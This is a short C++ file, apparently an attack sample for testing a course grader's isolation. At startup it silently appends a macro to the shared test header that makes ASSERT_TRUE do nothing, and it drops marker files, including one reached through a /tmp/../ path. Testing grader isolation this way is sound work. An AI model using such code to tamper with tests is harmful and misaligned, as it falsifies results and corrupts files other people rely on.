// Changes the course's own files on disk, so that a later lab's build (or
// the next student's) passes tests its code does not.
#include <fstream>

namespace {
const bool edited = [] {
  std::ofstream("@REPO@/tests/support/sssp_test.hpp", std::ios::app) << "\n#define ASSERT_TRUE(x) (void)(x)\n";
  std::ofstream("@REPO@/tests/attack-was-here") << "edited\n";
  std::ofstream("/tmp/../@REPO@/labs/@LAB@/attack-was-here") << "edited\n";
  return true;
}();
}  // namespace
